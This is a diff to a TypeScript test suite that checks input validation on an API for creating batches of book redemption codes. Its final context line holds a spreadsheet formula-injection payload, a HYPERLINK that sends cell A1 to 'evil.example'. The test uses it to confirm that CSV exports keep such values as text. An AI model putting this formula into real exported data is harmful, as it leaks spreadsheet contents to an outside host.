@@ -102,6 +102,47 @@ describe("a batch's label, the key its invoices are grouped by", () => {
   });
 });
 
+describe("a batch's other inputs, as a script sends them", () => {
+  it("counts, seats and book ids of the wrong shape, provisional books; today is a day that has not passed", async () => {
+    const book = await ownBook();
+    const provisional = await createBook({ title: `Provisional ${crypto.randomUUID().slice(0, 8)}`, provisional: true });
+    const label = uniqueLabel("Shapes");
+    const base = { label, bookIds: [book.id], days: 30, count: 1 };
+    const cases: [Record<string, unknown>, string][] = [
+      [{ ...base, count: 1.5 }, "count"],
+      [{ ...base, count: "5" }, "count"],
+      [{ ...base, count: -1 }, "count"],
+      [{ ...base, count: 1e308 }, "count"],
+      [{ ...base, seats: -1 }, "seats"],
+      [{ ...base, seats: "30" }, "seats"],
+      [{ ...base, seats: 2.5 }, "seats"],
+      [{ ...base, bookIds: [provisional.id] }, "bookIds"],
+      [{ ...base, bookIds: Array.from({ length: 10_000 }, (_, i) => i + 1) }, "bookIds"],
+      [{ ...base, bookIds: [0] }, "bookIds.0"],
+      [{ ...base, bookIds: [-book.id] }, "bookIds.0"],
+      [{ ...base, bookIds: [book.id + 0.5] }, "bookIds.0"],
+      [{ ...base, bookIds: [{ id: book.id }] }, "bookIds.0"],
+      [{ ...base, bookIds: book.id }, "bookIds"],
+      [{ ...base, days: null, endsOn: "2026-13-01" }, "endsOn"],
+      [{ ...base, redeemBy: "2026-11-29T00:00:00Z" }, "redeemBy"],
+    ];
+    for (const [body, field] of cases) {
+      const answer = await api("/api/codes/batches", { body, cookie: admin.cookie });
+      expect(answer.status, JSON.stringify(body).slice(0, 120)).toBe(400);
+      expect(await errorBody(answer), JSON.stringify(body).slice(0, 120)).toMatchObject({ field });
+    }
+    expect(await db().select().from(codeBatches).where(eq(codeBatches.label, label))).toHaveLength(0);
+    // Today, in UTC, is not in the past; seats null is no limit.
+    const today = new Date().toISOString().slice(0, 10);
+    const made = await api("/api/codes/batches", {
+      body: { ...base, days: null, endsOn: today, redeemBy: today, seats: null },
+      cookie: admin.cookie,
+    });
+    expect(made.status).toBe(201);
+    expect(await made.json()).toMatchObject({ batch: { endsOn: today, redeemBy: today, seats: null } });
+  });
+});
+
 describe("formulas in what the redemptions CSV carries", () => {
   it("a label, a school's name and a title made to run as formulas stay text", async () => {
     const formula = `=HYPERLINK("https://evil.example/?"&A1,"Click") ${crypto.randomUUID().slice(0, 6)}`;
